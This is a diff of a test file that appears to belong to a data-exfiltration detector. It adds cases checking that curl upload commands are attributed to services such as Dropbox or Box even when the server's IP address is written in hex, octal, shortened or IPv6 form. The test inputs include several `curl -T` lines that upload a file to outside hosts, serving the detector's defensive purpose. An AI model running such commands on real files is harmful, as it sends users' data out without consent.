@@ -416,6 +416,40 @@ it('a host that the organisation has named leads to its service', () => {
   ).toMatchObject([{ service: 'box', destination: 'eu.files.example.net' }]);
 });
 
+describe('the address of a server in the command', () => {
+  it.each([
+    ['https://162.125.1.14/in', 'dropbox', '162.125.1.14'],
+    ['https://[2620:100:6022:14::a27d:4b0e]/in', 'dropbox', '2620:100:6022:14::a27d:4b0e'],
+    ['http://0xA27D010E:8080/in', 'dropbox', '162.125.1.14'],
+    ['162.125.270', 'dropbox', '162.125.1.14'],
+    ['https://203.0.113.20/in', 'box', '203.0.113.20'],
+    ['https://17.248.3.4/in', null, '17.248.3.4'],
+    ['https://104.16.1.1/in', null, '104.16.1.1'],
+    ['https://198.51.100.7/in', null, '198.51.100.7'],
+  ])('%s leads to %s', (url, service, destination) => {
+    const desk = new Desk();
+    desk.story.resolver('upload.box.com', '203.0.113.20');
+    desk.dump(FILE);
+    desk.type(PROGRAMS.curl, `curl -T ${FILE} ${url}`);
+    expect(desk.findings()).toMatchObject([{ ...NAMED, service, destination }]);
+  });
+
+  it('leads to the service of a name that resolved to it in the last day, and not longer', () => {
+    const desk = new Desk();
+    desk.story.resolver('upload.box.com', '203.0.113.20').wait(25 * 3600);
+    desk.dump(FILE);
+    desk.type(PROGRAMS.curl, `curl -T ${FILE} https://203.0.113.20/in`);
+    expect(desk.findings()).toMatchObject([{ ...NAMED, service: null }]);
+  });
+
+  it('is this Mac in any spelling of it', () => {
+    for (const host of ['2130706433', '0x7f.1', '017700000001', '127.1', '[::ffff:127.0.0.1]'])
+      expect(uploaded({ line: `curl -T ${FILE} http://${host}:9000/` }).findings()).toMatchObject([
+        { stage: 'export' },
+      ]);
+  });
+});
+
 describe('further ways to say it, of which keys inside an inline remote are left out', () => {
   it.each<Sent>([
     { line: `curl -sSfT ${FILE} https://gofile.io`, service: 'gofile', destination: 'gofile.io' },
